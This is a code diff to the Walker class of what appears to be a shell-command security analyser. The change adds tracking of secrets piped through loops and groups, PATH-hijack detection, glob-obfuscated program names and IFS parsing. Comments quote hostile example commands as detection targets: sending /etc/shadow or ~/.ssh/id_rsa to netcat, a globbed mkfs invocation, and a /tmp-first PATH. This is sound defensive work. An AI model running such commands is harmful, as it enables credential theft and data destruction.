@@ -63,6 +63,8 @@ public final class Walker implements Substitutions {
     /** Files written from secrets in this line, and whether a later command sends them. */
     private final SecretFlow secretFlow = new SecretFlow();
     private int secretReads;
+    /** The last invocation that read a secret (a compound that ran it passes it on to the next pipeline stage). */
+    private Invocation lastSecretSource;
     /** Process names whose PIDs programs printed so far ({@link PidLookup}), and the $(…) spans that printed them. */
     private final List<String> pidNames = new ArrayList<>();
     private final List<PidSpan> pidSubstitutions = new ArrayList<>();
@@ -74,6 +76,8 @@ public final class Walker implements Substitutions {
             "gzip", "zip", "od", "strings", "less", "more", "tac", "openssl", "gpg", "sed", "awk", "grep", "cut", "bzip2",
             "xz", "7z", "hexdump", "base32", "dd", "cpio");
     private int invocations;
+    /** IFS given as a prefix assignment to the command being processed ({@code IFS=, read -ra a}), else null. */
+    private String readIfs;
     /** While analysing code run by find -exec: the walk's root and the words that stand for its files. */
     private String treeContext;
     private java.util.Set<String> treeItems = java.util.Set.of();
@@ -198,6 +202,7 @@ public final class Walker implements Substitutions {
             return EMPTY;
         }
         Compound k = (Compound) c;
+        int readsBefore = secretReads;
         Producers.Output out = new Producers.Output(null, ctx.stdin().origin().max(Origin.LOCAL));
         List<Redir> redirs = expandRedirects(k.redirects(), env, ctx);
         Stdin stdin = stdinFor(redirs, k.redirects(), env, ctx);
@@ -255,7 +260,14 @@ public final class Walker implements Substitutions {
                     ctx.speculative(), null, ctx.depth());
             rules.evaluate(pseudo, reporter);
         }
-        return new Stage(List.of(), out);
+        // a loop fed by "< FILE" passes what it read on ("while read l; do echo $l; done < /etc/shadow | nc h 9"), and
+        // a group that read a secret passes that reader on ("{ cat ~/.ssh/id_rsa; } | nc h 9")
+        List<Invocation> passed = stdin != ctx.stdin() ? stdin.upstream() : List.of();
+        if (secretReads > readsBefore && lastSecretSource != null) {
+            passed = new ArrayList<>(passed);
+            passed.add(lastSecretSource);
+        }
+        return new Stage(passed, out);
     }
 
     private static boolean infiniteCondition(Script cond) {
@@ -364,6 +376,9 @@ public final class Walker implements Substitutions {
                 continue;
             }
             if (simple.words().isEmpty()) {
+                if (v.isArray()) {
+                    v = keyedElements(env, a.name(), v, a.append());
+                }
                 if (a.append() && !v.isArray()) {
                     Value old = env.get(a.name());
                     String prev = old == Value.UNKNOWN_UNSET ? "" : String.valueOf(old.first());
@@ -381,6 +396,9 @@ public final class Walker implements Substitutions {
                         && Paths.place(Arg.literal(lib, a.start(), a.end())) == Paths.Place.TEMP) {
                     report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later preloads " + lib);
                 }
+            }
+            if (deferred > 0 && a.name().equals("PATH") && !v.isArray() && scratchFirstInPath(v.scalar())) {
+                report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later looks programs up in " + v.scalar());
             }
         }
         List<Arg> argv = new ArrayList<>();
@@ -403,7 +421,18 @@ public final class Walker implements Substitutions {
             }
             return new Stage(List.of(inv), new Producers.Output("", Origin.LITERAL));
         }
-        return process(inv, env, ctx, true);
+        String savedIfs = readIfs;
+        readIfs = null;
+        for (Ast.Assignment a : simple.assignments()) {
+            if (a.name().equals("IFS") && a.value() != null) {
+                readIfs = expander.expandString(a.value(), env).text();
+            }
+        }
+        try {
+            return process(inv, env, ctx, true);
+        } finally {
+            readIfs = savedIfs;
+        }
     }
 
     /**
@@ -443,6 +472,42 @@ public final class Walker implements Substitutions {
         }
     }
 
+    /**
+     * An array value as assigned: {@code ([2]=x [k]=y)} places elements by index and stores associative keys as
+     * {@code name[key]} (read back by the expander); {@code a+=(x)} appends to the old elements.
+     */
+    private static Value keyedElements(Env env, String name, Value v, boolean append) {
+        List<String> items = new ArrayList<>();
+        if (append) {
+            Value old = env.get(name);
+            if (old.isArray()) {
+                items.addAll(old.array());
+            } else if (old != Value.UNKNOWN_UNSET) {
+                items.add(old.scalar());
+            }
+        }
+        for (String item : v.array()) {
+            boolean keyed = !item.isEmpty() && (item.charAt(0) == '[' || item.charAt(0) == Sentinels.LBRACKET);
+            int close = keyed ? item.indexOf("]=") : -1;
+            if (close < 0) {
+                items.add(item);
+                continue;
+            }
+            String key = item.substring(1, close);
+            String val = item.substring(close + 2);
+            int idx = key.length() < 5 && !key.isEmpty() && key.chars().allMatch(Character::isDigit) ? Integer.parseInt(key) : -1;
+            if (idx < 0) {
+                env.set(name + "[" + key + "]", Value.of(val, v.origin()));
+                continue;
+            }
+            while (items.size() <= idx) {
+                items.add("");
+            }
+            items.set(idx, val);
+        }
+        return Value.array(items, v.origin());
+    }
+
     /** a[3]=x: updates one element (unknown index: the whole array becomes unknown). */
     private static void setElement(Env env, String target, Value v) {
         String name = target.substring(0, target.indexOf('['));
@@ -464,7 +529,12 @@ public final class Walker implements Substitutions {
             }
             env.set(name, Value.array(items, old.origin().max(v.origin())));
         } catch (NumberFormatException e) {
-            env.set(name, Value.unknown(v.origin().max(Origin.UNSET)));
+            if (BashNames.isName(idx)) {
+                // m[key]=v: an associative element (or an index held in a variable), read back under the same key
+                env.set(name + "[" + idx + "]", Value.of(v.first(), v.origin()));
+            } else {
+                env.set(name, Value.unknown(v.origin().max(Origin.UNSET)));
+            }
         }
     }
 
@@ -542,6 +612,11 @@ public final class Walker implements Substitutions {
                         stdin = new Stdin(t.procSub(), o == null ? null : o.content(), List.of(), true);
                     } else if (t.startsWith("/dev/tcp/") || t.startsWith("/dev/udp/")) {
                         stdin = new Stdin(Origin.NETWORK, null, List.of(), true);
+                    } else if (t.resolved() && io.clituner.guardrails.rules.Paths.isSecret(t)) {
+                        // "… < /etc/shadow" feeds the secret on as "cat /etc/shadow | …" would
+                        Invocation reader = new Invocation(List.of(Arg.literal("cat", t.start(), t.end()), t), List.of(),
+                                Stdin.TERMINAL, t.start(), t.end(), ctx.speculative(), null, ctx.depth());
+                        stdin = new Stdin(Origin.LOCAL, null, List.of(reader), true);
                     } else if (!t.is("/dev/null")) {
                         stdin = new Stdin(Origin.LOCAL, null, List.of(), true);
                     }
@@ -655,6 +730,7 @@ public final class Walker implements Substitutions {
         }
         if (Programs.dumpsSecrets(inv)) {
             secretReads++;
+            lastSecretSource = inv;
         }
         if (deferred > 0) {
             scratchProgram(inv, ctx);
@@ -671,6 +747,7 @@ public final class Walker implements Substitutions {
             for (Arg a : inv.operands()) {
                 if (io.clituner.guardrails.rules.Paths.isSecret(a)) {
                     secretReads++;
+                    lastSecretSource = inv;
                     break;
                 }
             }
@@ -854,7 +931,17 @@ public final class Walker implements Substitutions {
                     == io.clituner.guardrails.rules.Paths.Place.TEMP) {
                 report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later preloads " + t.substring(eq + 1));
             }
+            if (t.startsWith("PATH=") && scratchFirstInPath(t.substring(5))) {
+                report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later looks programs up in " + t.substring(5));
+            }
         }
+    }
+
+    /** PATH searched first in a directory anyone can write ({@code /tmp/.bin:$PATH}): every command can be hijacked. */
+    private static boolean scratchFirstInPath(String path) {
+        int colon = path.indexOf(':');
+        String first = colon < 0 ? path : path.substring(0, colon);
+        return first.startsWith("/") && Paths.place(Arg.literal(first, 0, 0)) == Paths.Place.TEMP;
     }
 
     /**
@@ -1001,6 +1088,16 @@ public final class Walker implements Substitutions {
         if (ctx.speculative()) {
             return;
         }
+        Ctx spec = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(), ctx.inPipeline(),
+                ctx.background(), ctx.callDepth(), ctx.loopDepth(), true);
+        String globbed = globbedProgram(a0);
+        if (globbed != null) {
+            // "/s??n/mkfs.ext4": the glob only hides which system directory holds a named program
+            List<Arg> argv = new ArrayList<>(inv.argv());
+            argv.set(0, new Arg(globbed, a0.origin(), a0.start(), a0.end(), null));
+            process(new Invocation(argv, inv.redirects(), inv.stdin(), inv.start(), inv.end(), true, inv.treeRoot(),
+                    inv.depth()), env.copy(), spec, false);
+        }
         boolean optionLike = false;
         for (Arg a : inv.args()) {
             String t = a.text();
@@ -1009,8 +1106,6 @@ public final class Walker implements Substitutions {
         if (!optionLike && inv.redirects().isEmpty() && !inv.stdin().piped()) {
             return;
         }
-        Ctx spec = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(), ctx.inPipeline(),
-                ctx.background(), ctx.callDepth(), ctx.loopDepth(), true);
         for (String cand : CANDIDATES) {
             if (!Speculation.plausible(cand, inv)) {
                 continue;
@@ -1024,6 +1119,30 @@ public final class Walker implements Substitutions {
                 process(guess, env.copy(), spec, false);
             }
         }
+    }
+
+    private static final List<String> BIN_DIRS = List.of("/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/",
+            "/usr/local/sbin/");
+
+    /** The program a glob in a system directory names when only the directory part is a pattern, else null. */
+    private static String globbedProgram(Arg a0) {
+        String t = a0.text();
+        int slash = t.lastIndexOf('/');
+        if (slash < 0 || slash == t.length() - 1 || a0.hasUnknown() || !a0.isGlob()) {
+            return null;
+        }
+        String base = t.substring(slash + 1);
+        for (int i = 0; i < base.length(); i++) {
+            if (Sentinels.isSentinel(base.charAt(i))) {
+                return null;
+            }
+        }
+        for (String dir : BIN_DIRS) {
+            if (a0.couldBe(dir + base)) {
+                return base;
+            }
+        }
+        return null;
     }
 
     private void builtin(Invocation inv, Env env, Ctx ctx) {
@@ -1053,7 +1172,8 @@ public final class Walker implements Substitutions {
                         env.nameref(var, val);
                         continue;
                     }
-                    Value v = array ? Value.array(List.of(val.split(" ")), a.origin()) : Value.of(val, a.origin());
+                    Value v = array ? keyedElements(env, var, Value.array(List.of(val.split(" ")), a.origin()), append)
+                            : Value.of(val, a.origin());
                     env.set(var, v);
                     specialVariable(var, v, a.start(), a.end(), env, ctx);
                     functionValue(var, v, a.start(), a.end(), env, ctx);
@@ -1104,7 +1224,17 @@ public final class Walker implements Substitutions {
             case "mapfile", "readarray" -> {
                 List<Arg> ops = inv.operands();
                 String var = ops.isEmpty() ? "MAPFILE" : ops.get(ops.size() - 1).text();
-                env.set(var, Value.unknown(inv.stdin().origin().max(Origin.LOCAL)));
+                String content = inv.stdin().piped() ? inv.stdin().content() : null;
+                if (content != null && inv.hasOption('t') && inv.args().stream().noneMatch(a -> a.is("-d"))) {
+                    List<String> lines = new ArrayList<>(List.of(content.split("\n", -1)));
+                    if (!lines.isEmpty() && lines.get(lines.size() - 1).isEmpty()) {
+                        lines.remove(lines.size() - 1);
+                    }
+                    env.set(var, Value.array(lines, inv.stdin().origin()));
+                } else {
+                    env.set(var, Value.unknown(inv.stdin().origin().max(Origin.LOCAL)));
+                }
+                taint(var, secretUpstream(inv.stdin()));
             }
             case "printf" -> {
                 if (inv.size() > 3 && inv.arg(1).is("-v")) {
@@ -1204,14 +1334,27 @@ public final class Walker implements Substitutions {
         List<String> vars = new ArrayList<>();
         boolean array = false;
         String arrayName = null;
+        boolean options = true;
         for (int i = 1; i < inv.size(); i++) {
             String t = inv.arg(i).text();
-            if (t.equals("-a") && i + 1 < inv.size()) {
-                array = true;
-                arrayName = inv.arg(++i).text();
-            } else if (t.matches("-[dpntuNeio]") && i + 1 < inv.size()) {
-                i++;
-            } else if (!t.startsWith("-")) {
+            if (options && t.equals("--")) {
+                options = false;
+            } else if (options && t.length() > 1 && t.charAt(0) == '-') {
+                // a getopt cluster: "-ra NAME", "-rp PROMPT", "-aNAME"
+                for (int k = 1; k < t.length(); k++) {
+                    char c = t.charAt(k);
+                    if ("adpntuNei".indexOf(c) < 0) {
+                        continue;
+                    }
+                    String value = k + 1 < t.length() ? t.substring(k + 1) : i + 1 < inv.size() ? inv.arg(++i).text() : null;
+                    if (c == 'a' && value != null) {
+                        array = true;
+                        arrayName = value;
+                    }
+                    break;
+                }
+            } else {
+                options = false;
                 vars.add(t);
             }
         }
@@ -1228,17 +1371,23 @@ public final class Walker implements Substitutions {
         if (content != null) {
             int nl = content.indexOf('\n');
             String line = nl >= 0 ? content.substring(0, nl) : content;
-            String[] words = line.trim().split("[ \t]+");
+            String ifs = readIfs != null ? readIfs : env.get("IFS").scalar();
+            List<int[]> fields = ifsFields(line, ifs == null || ifs.indexOf(Sentinels.UNKNOWN) >= 0 ? " \t\n" : ifs);
             if (array && arrayName != null) {
-                env.set(arrayName, Value.array(List.of(words), o));
+                List<String> words = new ArrayList<>(fields.size());
+                for (int[] f : fields) {
+                    words.add(line.substring(f[0], f[1]));
+                }
+                env.set(arrayName, Value.array(words, o));
                 return;
             }
             if (vars.isEmpty()) {
                 env.set("REPLY", Value.of(line, o));
             }
             for (int k = 0; k < vars.size(); k++) {
-                String v = k < vars.size() - 1 ? (k < words.length ? words[k] : "")
-                        : String.join(" ", List.of(words).subList(Math.min(k, words.length), words.length));
+                String v = k >= fields.size() ? ""
+                        : k < vars.size() - 1 ? line.substring(fields.get(k)[0], fields.get(k)[1])
+                        : line.substring(fields.get(k)[0], fields.get(fields.size() - 1)[1]); // the last name takes the rest
                 env.set(vars.get(k), Value.of(v, o));
             }
             return;
@@ -1250,6 +1399,42 @@ public final class Walker implements Substitutions {
         for (String v : vars.isEmpty() ? List.of("REPLY") : vars) {
             env.set(v, listed != null && vars.size() <= 1 ? Value.of(listed, Origin.LOCAL) : Value.unknown(o.max(Origin.LOCAL)));
         }
+    }
+
+    /** The fields bash's read splits a line into: IFS whitespace runs and each other IFS character delimit. */
+    static List<int[]> ifsFields(String line, String ifs) {
+        List<int[]> out = new ArrayList<>();
+        int n = line.length();
+        int i = 0;
+        while (i < n && ifs.indexOf(line.charAt(i)) >= 0 && Character.isWhitespace(line.charAt(i))) {
+            i++;
+        }
+        int start = i;
+        while (i <= n) {
+            if (i == n || ifs.indexOf(line.charAt(i)) >= 0) {
+                if (i > start || i < n && !Character.isWhitespace(line.charAt(i))) {
+                    out.add(new int[] {start, i});
+                }
+                if (i == n) {
+                    break;
+                }
+                boolean hard = !Character.isWhitespace(line.charAt(i));
+                i++;
+                while (i < n && ifs.indexOf(line.charAt(i)) >= 0 && Character.isWhitespace(line.charAt(i))) {
+                    i++;
+                }
+                if (!hard && i < n && ifs.indexOf(line.charAt(i)) >= 0) {
+                    i++; // whitespace around one non-whitespace delimiter counts once
+                    while (i < n && ifs.indexOf(line.charAt(i)) >= 0 && Character.isWhitespace(line.charAt(i))) {
+                        i++;
+                    }
+                }
+                start = i;
+                continue;
+            }
+            i++;
+        }
+        return out;
     }
 
     // ------------------------------------------------------------------ nested code
@@ -1406,6 +1591,11 @@ public final class Walker implements Substitutions {
             } else if (scan.sends() && Paths.isSecret(path)) {
                 report(ctx, "exfil.upload-secret", start, end, language + " program reads " + f.path()
                         + " and sends data over the network");
+            }
+        }
+        for (String inner : scan.evalCode()) {
+            if (ctx.depth() + 1 < limits.maxCodeDepth()) {
+                foreign(language, inner, origin, start, end, env, nested); // eval of a literal: the same program, one level in
             }
         }
         for (String blob : scan.decodedBlobs()) {
